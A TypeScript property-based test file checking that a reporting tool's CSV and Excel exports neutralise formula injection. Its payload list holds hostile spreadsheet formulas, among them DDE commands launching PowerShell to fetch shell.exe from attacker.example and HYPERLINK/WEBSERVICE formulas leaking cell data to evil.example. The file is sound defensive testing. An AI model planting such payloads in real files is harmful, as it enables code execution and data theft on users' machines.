import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

import type ExcelJS from 'exceljs';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import type { Finding } from '../../shared/catalog/types.js';
import { findingsCsvChunks } from '../../shared/findings/findingsCsv.js';
import { spreadsheetCell, spreadsheetSafe } from '../../shared/findings/spreadsheetSafe.js';
import { cellText } from '../../shared/reports/workbook/cellText.js';
import { writeWorkbook } from '../../shared/reports/writeWorkbook.js';
import { inputFor, syntheticResult } from '../reports/reportFixtures.js';
import { allStrings, expectNoFormulas, readWorkbook } from '../reports/workbookReading.js';
import { parseCsvStrict } from './rfc4180.js';

/**
 * What a spreadsheet program does before deciding a cell is a formula, modelled independently of
 * the production code: it skips leading white space (any script), control and format characters
 * (zero-width, bidirectional marks, BOM) and folds compatibility forms (full-width ＝, small ﹦,
 * superscript ⁺) to ASCII.
 */
const SKIPPED_RANGES: Array<[number, number]> = [
  [0x00, 0x1f],
  [0x7f, 0x9f],
  [0xad, 0xad],
  [0x34f, 0x34f],
  [0x115f, 0x1160],
  [0x180b, 0x180e],
  [0x200b, 0x200f],
  [0x202a, 0x202e],
  [0x2060, 0x206f],
  [0x3164, 0x3164],
  [0xfe00, 0xfe0f],
  [0xfeff, 0xfeff],
  [0xffa0, 0xffa0],
  [0xfffd, 0xfffd],
];

function skipped(character: string): boolean {
  const code = character.codePointAt(0) ?? 0;
  return /\s/.test(character) || SKIPPED_RANGES.some(([low, high]) => code >= low && code <= high);
}

function asSpreadsheetSeesIt(cell: string): string {
  let index = 0;
  while (index < cell.length && skipped(cell.charAt(index))) index++;
  return cell.slice(index).normalize('NFKC');
}

/** A cell a spreadsheet could evaluate: a formula, DDE or Lotus start, or a leading control. */
function dangerous(cell: string): boolean {
  if (/^[\t\r\n]/.test(cell)) return true;
  const seen = asSpreadsheetSeesIt(cell);
  return /^[=+\-@|\u2212]/.test(seen) || /^dde\s*\(/i.test(seen);
}

/** Payloads from the OWASP CSV-injection page and common DDE/formula variants. */
const OWASP_PAYLOADS = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?leak="&A1&A2, "Error: please click for further information")',
  "=cmd|' /C calc'!A0",
  "=cmd|' /C notepad'!'A1'",
  "=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0",
  "=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "=10+20+cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1,2)',
  'DDE ("cmd";"/C calc";"!A0")A0',
  '=DDE("cmd";"/C calc";"!A0")',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  "|cmd /C calc'!A0",
  '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
  '=WEBSERVICE("http://evil.example/")',
];

/** Characters a program may skip before the formula start. */
const LEADING = [
  ' ',
  '\t',
  '\r',
  '\n',
  '\u0000',
  '\u0001',
  '\u0008',
  '\u000b',
  '\u001b',
  '\u001f',
  '\u007f',
  '\u0085',
  '\u00a0',
  '\u00ad',
  '\u1680',
  '\u180e',
  '\u2000',
  '\u2007',
  '\u200b',
  '\u200c',
  '\u200d',
  '\u200e',
  '\u200f',
  '\u2028',
  '\u2029',
  '\u202a',
  '\u202e',
  '\u2060',
  '\u2066',
  '\u3000',
  '\ufeff',
  '\ud800',
];

/** Formula starts, ASCII and compatibility forms. */
const TRIGGERS = [
  '=',
  '+',
  '-',
  '@',
  '|',
  '\u2212',
  '＝',
  '＋',
  '－',
  '＠',
  '｜',
  '﹦',
  '﹢',
  '﹣',
  '﹫',
  '⁺',
  '⁻',
  '⁼',
  '₊',
  '₋',
  '₌',
  'DDE (',
  'dde(',
];

const TAILS = [
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://evil.example","x")',
  '1+1',
  'SUM(1;2)',
  '"cmd";"/C calc";"!A0")A0',
  '',
];

const hostile: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...OWASP_PAYLOADS),
  fc
    .tuple(
      fc.array(fc.constantFrom(...LEADING), { maxLength: 4 }),
      fc.constantFrom(...TRIGGERS),
      fc.oneof(fc.constantFrom(...TAILS), fc.string({ maxLength: 20 })),
    )
    .map(([lead, trigger, tail]) => `${lead.join('')}${trigger}${tail}`),
  // A harmless start, then a separator and a formula: a cell of its own for a program that
  // splits on semicolons, tabs or line breaks.
  fc
    .tuple(
      fc.string({ maxLength: 6 }),
      fc.constantFrom(
        ';',
        '\t',
        '\r\n',
        '\n',
        '\r',
        ',',
        '"',
        '\u0085',
        '\u2028',
        '\u2029',
        '\u000b',
        '\u000c',
      ),
      fc.array(fc.constantFrom(...LEADING, '"'), { maxLength: 3 }),
      fc.constantFrom(...TRIGGERS),
      fc.constantFrom(...TAILS),
    )
    .map(([head, separator, lead, trigger, tail]) => `${head}${separator}${lead.join('')}${trigger}${tail}`),
);

/**
 * findings.csv as a program splitting on semicolons, tabs and every line break sees it — the
 * Unicode ones too (NEL, line and paragraph separators, vertical tab, form feed, as Python's
 * `splitlines` does).
 */
function separatorSplitCells(csv: string): string[] {
  return (
    csv
      // eslint-disable-next-line no-control-regex -- control characters are the separators here
      .split(/[;\t\r\n\u000b\u000c\u001c-\u001e\u0085\u2028\u2029]/)
      .map((piece) => piece.replace(/^"+/, ''))
  );
}

function findingsWith(values: readonly string[]): Finding[] {
  const result = syntheticResult(Math.max(1, Math.ceil(values.length / 10)));
  return result.findings.map((finding, index) => {
    const value = values[index % values.length] ?? '';
    return {
      ...finding,
      clusterName: value,
      resourceGroup: value,
      reason: value,
      evidence: {
        ...finding.evidence,
        checks: [{ source: value, path: value, observed: value, expected: value }],
        sourceIds: [value],
      },
    };
  });
}

describe('spreadsheet cells never start a formula (property)', () => {
  it('spreadsheetCell and the CSV field neutralise every hostile start, keeping the text', () => {
    fc.assert(
      fc.property(hostile, (value) => {
        for (const cell of [spreadsheetCell(value), spreadsheetSafe(value), cellText(value, 32_767)]) {
          expect(dangerous(cell), JSON.stringify(cell)).toBe(false);
        }
        // Nothing is lost: one apostrophe is added, characters a cell cannot hold are replaced.
        const cell = spreadsheetCell(value);
        const prefixed = cell.length === value.length + 1 && cell.startsWith("'");
        if (dangerous(value)) expect(prefixed).toBe(true);
        else expect(prefixed || cell.length === value.length).toBe(true);
      }),
      { numRuns: 2000 },
    );
  });

  it('leaves ordinary text alone', () => {
    fc.assert(
      fc.property(fc.stringMatching(/^[a-zA-Z0-9][a-zA-Z0-9 ._/=+@-]{0,30}$/), (value) => {
        expect(spreadsheetCell(value)).toBe(value);
      }),
    );
    for (const value of ['edge-01', 'a=b', 'user@example.com', 'Ökö 東京', '/subscriptions/x', ''])
      expect(spreadsheetSafe(value)).toBe(value);
  });

  it('findings.csv parsed back, and split on ; tab and line breaks, has no dangerous cell', () => {
    fc.assert(
      fc.property(fc.array(hostile, { minLength: 1, maxLength: 30 }), (values) => {
        const csv = [...findingsCsvChunks(findingsWith(values))].join('');
        const records = parseCsvStrict(csv);
        for (const record of records)
          for (const cell of record) expect(dangerous(cell), JSON.stringify(cell)).toBe(false);
        for (const cell of separatorSplitCells(csv))
          expect(dangerous(cell), `split: ${JSON.stringify(cell)}`).toBe(false);
      }),
      { numRuns: 300 },
    );
  });

  it('cuts before it neutralises: a long hostile value keeps the apostrophe and its limit', () => {
    fc.assert(
      fc.property(hostile, fc.integer({ min: 120, max: 400 }), (value, limit) => {
        const long = value + 'x'.repeat(limit);
        const cell = cellText(long, limit);
        expect(cell.length).toBeLessThanOrEqual(limit);
        expect(cell).toMatch(/\[TRUNCATED: [\d,]+ characters; full value in findings\.json\]$/);
        expect(dangerous(cell), JSON.stringify(cell)).toBe(false);
      }),
    );
  });

  it('regression: a NUL before =1+1 no longer becomes =1+1 in the workbook', () => {
    expect(cellText('\u0000=1+1', 100)).toBe("'\ufffd=1+1");
    expect(spreadsheetSafe('\u0000=1+1')).toBe("'\ufffd=1+1");
    expect(spreadsheetSafe('＝1+1')).toBe("'＝1+1");
    expect(spreadsheetSafe("|cmd'!A0")).toBe("'|cmd'!A0");
    expect(spreadsheetSafe('ok;=1+1')).toBe("ok;'=1+1");
  });
});

describe('report.xlsx read back never holds a dangerous cell (property)', () => {
  let folder = '';
  let counter = 0;
  beforeAll(async () => {
    folder = await mkdtemp(join(tmpdir(), 'injection-'));
  });
  afterAll(async () => {
    await rm(folder, { recursive: true, force: true });
  });

  it('for hostile names, reasons, evidence, resource groups and gaps', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(hostile, { minLength: 20, maxLength: 40 }), async (values) => {
        const result = syntheticResult(Math.ceil(values.length / 10));
        result.findings = findingsWith(values);
        result.clusters.forEach((cluster, index) => {
          const value = values[index] ?? '';
          cluster.name = value;
          cluster.resourceGroup = value;
          cluster.distribution = value;
        });
        result.run.complete = false;
        result.run.notRead = values.map((value) => ({ kind: 'resource', id: value, reason: value }));
        const file = join(folder, `report-${++counter}.xlsx`);
        await writeWorkbook(file, inputFor(result));
        const workbook: ExcelJS.Workbook = await readWorkbook(file);
        expectNoFormulas(workbook);
        const bad = allStrings(workbook).filter((entry) => dangerous(entry.text));
        expect(bad).toEqual([]);
      }),
      { numRuns: 4 },
    );
  }, 120_000);
});
